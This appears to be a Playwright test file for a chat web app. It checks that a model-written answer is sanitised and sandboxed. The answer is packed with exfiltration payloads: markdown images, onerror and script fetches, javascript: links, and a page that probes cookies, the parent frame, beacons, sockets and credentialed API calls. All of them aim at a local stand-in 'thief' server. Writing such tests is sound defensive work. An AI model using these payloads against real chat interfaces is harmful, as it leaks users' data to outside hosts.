import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
import { hasChromium, launchChromium } from '../support/chromium.ts';
import { ada, type LoginGateway, loginGateway } from '../support/login.ts';

setDefaultTimeout(60_000);

/** Somebody else's server: whatever reaches it was carried out of the chat. */
const reached: string[] = [];
const elsewhere = Bun.serve({
  hostname: '127.0.0.1',
  port: 0,
  fetch(request) {
    reached.push(request.url);
    return new Response('', { headers: { 'access-control-allow-origin': '*' } });
  },
});
const thief = `http://127.0.0.1:${elsewhere.port}`;

/** Ways by which words of a model could call another host by themselves, as soon as they are shown. */
const leakyWords = [
  `![a picture](${thief}/image?secret=1)`,
  `![by reference][ref]\n\n[ref]: ${thief}/reference?secret=1`,
  `<img src="${thief}/html?secret=1" onerror="fetch('${thief}/onerror')">`,
  `<iframe src="${thief}/frame"></iframe><script>fetch('${thief}/script')</script>`,
  `<style>@import url('${thief}/style');body{background:url(${thief}/background)}</style>`,
  `<link rel="prefetch" href="${thief}/prefetch"><meta http-equiv="refresh" content="0;url=${thief}/refresh">`,
  `<svg><image href="${thief}/svg"/><use href="${thief}/use#x"/></svg>`,
  `<video src="${thief}/video" autoplay></video><audio src="${thief}/audio"></audio>`,
  `$\\href{javascript:fetch('${thief}/href')}{x} \\includegraphics{${thief}/graphics} e = mc^2$`,
  `[click](javascript:fetch('${thief}/javascript')) and [data](data:text/html,<script>1</script>)`,
  `<details open ontoggle="fetch('${thief}/toggle')"><summary>x</summary></details>`,
].join('\n\n');

/** The same for a page that a model wrote, which may run scripts in its frame. */
const leakyPage = `<!doctype html><title>x</title><body><h1 id="state">loaded</h1>
<img src="${thief}/page-image"><link rel="stylesheet" href="${thief}/page-style"><link rel="preload" as="script" href="${thief}/page-preload">
<script src="${thief}/page-script"></script><iframe src="${thief}/page-frame"></iframe>
<form id="form" action="${thief}/page-form" method="post"><input name="secret" value="1"></form>
<script>
const found = [];
const attempt = (name, act) => { try { const value = act(); if (value !== undefined) found.push(name); } catch {} };
attempt('cookie', () => document.cookie || undefined);
attempt('storage', () => { localStorage.setItem('x', '1'); return 1; });
attempt('parent', () => parent.document.body.innerText);
attempt('top', () => { top.location = '${thief}/page-top'; });
attempt('beacon', () => { navigator.sendBeacon('${thief}/page-beacon', 'x'); });
attempt('window', () => window.open('${thief}/page-window') ?? undefined);
attempt('form', () => { document.getElementById('form').submit(); });
attempt('socket', () => { new WebSocket('${thief.replace('http', 'ws')}/page-socket'); });
attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['fetch("${thief}/page-worker")']))); });
fetch('${thief}/page-fetch').then(() => found.push('fetch')).catch(() => {});
fetch('/api/v1/me', { credentials: 'include' }).then(() => found.push('api')).catch(() => {});
setTimeout(() => { document.getElementById('state').textContent = 'found: ' + found.join(); }, 700);
setTimeout(() => { attempt('self', () => { location.href = '${thief}/page-self'; }); }, 1400);
</script>`;

const component = `import { useEffect, useState } from 'react';
export default function Counter(): JSX.Element {
  const [count, setCount] = useState<number>(0);
  useEffect(() => { fetch('${thief}/component').catch(() => {}); }, []);
  return <button onClick={() => setCount(count + 1)}>counted {count}</button>;
}`;

const said = `${leakyWords}\n\n\`\`\`html\n${leakyPage}\n\`\`\`\n\n\`\`\`tsx\n${component}\n\`\`\`\n\n\`\`\`jsx\nimport x from 'left-pad';\nexport default () => <p>{x}</p>;\n\`\`\`\n\n\`\`\`mermaid\ngraph TD\n  A["<img src='${thief}/mermaid'>"] --> B\n  click A "${thief}/mermaid-click"\n\`\`\`\n`;

describe.skipIf(!hasChromium)('what a model says, in Chromium', () => {
  let gateway: LoginGateway;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const refused: string[] = [];

  beforeAll(async () => {
    gateway = await loginGateway();
    browser = await launchChromium();
    context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    context.setDefaultTimeout(10_000);
    page = await context.newPage();
    page.on('console', (message) => {
      if (/style-src|Applying inline style/.test(message.text())) refused.push(message.text());
    });
    await page.goto(`${gateway.url}/sign-in`);
    await page.getByLabel('Email').fill(ada.email);
    await page.getByLabel('Password').fill(ada.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('textbox', { name: 'Message', exact: true }).waitFor();
    const at = new Date().toISOString();
    const message = (id: string, parentId: string | null, role: string, text: string) => ({
      ...{ id, parentId, role, createdAt: at, parts: [{ type: 'text', text }] },
    });
    const conversation = {
      ...{ id: 'c', title: 'Leaks', createdAt: at, updatedAt: at, tags: [], headId: 'b' },
      messages: [message('a', null, 'user', 'Show me.'), message('b', 'a', 'assistant', said)],
    };
    const { data } = (await (
      await page.request.post(`${gateway.url}/api/v1/conversations/import`, {
        data: { conversations: [conversation] },
        headers: { origin: gateway.url },
      })
    ).json()) as { data: { id: string }[] };
    await page.goto(`${gateway.url}/c/${data[0]!.id}`);
    await page.getByRole('article').last().waitFor();
  });
  afterAll(async () => {
    await browser?.close();
    await gateway?.stop();
    await elsewhere.stop(true);
  });

  const answer = () => page.getByRole('article').last();
  const open = async (at: number): Promise<Frame> => {
    await page.getByRole('button', { name: 'Preview' }).nth(at).click();
    const element = await page.locator('aside iframe').elementHandle();
    const frame = await element!.contentFrame();
    return frame!;
  };

  test('words that are shown call nobody, and hold no address that runs something', async () => {
    await answer().locator('.katex').first().waitFor();
    await page.waitForTimeout(500);
    expect(reached).toEqual([]);
    const addresses = (await page.evaluate(
      `[...document.querySelectorAll('[role="log"] a')].map((a) => a.getAttribute('href') ?? '')`,
    )) as string[];
    expect(addresses.filter((href) => /^\s*(javascript|data|vbscript):/i.test(href))).toEqual([]);
    expect(await answer().locator('script, iframe, style, link, img, video, audio, form').count()).toBe(0);
    // The picture of another host is a link, which somebody may follow.
    await answer()
      .getByRole('link', { name: /a picture/ })
      .waitFor();
    // A formula keeps its shape under the page's policy.
    expect(refused).toEqual([]);
    expect(await answer().locator('.katex [style]').count()).toBeGreaterThan(0);
  });

  test('a page that a model wrote runs, and gets nothing in and nothing out', async () => {
    const frame = await open(0);
    await frame.getByText(/^found:/).waitFor();
    expect(await frame.locator('#state').innerText()).toBe('found:');
    // Then it tries to take itself elsewhere.
    await page.waitForTimeout(1500);
    expect(reached).toEqual([]);
    expect(page.url()).toStartWith(gateway.url);
    expect(context.pages()).toHaveLength(1);
    await page.getByRole('button', { name: 'Close' }).click();
  });

  test('a component of React is drawn and can be used; what is not there is said', async () => {
    const frame = await open(1);
    await frame.getByRole('button', { name: 'counted 0' }).click();
    await frame.getByRole('button', { name: 'counted 1' }).waitFor();
    await page.getByRole('button', { name: 'Close' }).click();
    const other = await open(2);
    await other.getByText('left-pad is not here').waitFor();
    await page.getByRole('button', { name: 'Close' }).click();
    expect(reached).toEqual([]);
  });

  test('a diagram is drawn and calls nobody', async () => {
    const frame = await open(3);
    await frame.locator('svg').first().waitFor();
    await page.waitForTimeout(300);
    expect(reached).toEqual([]);
  });
});
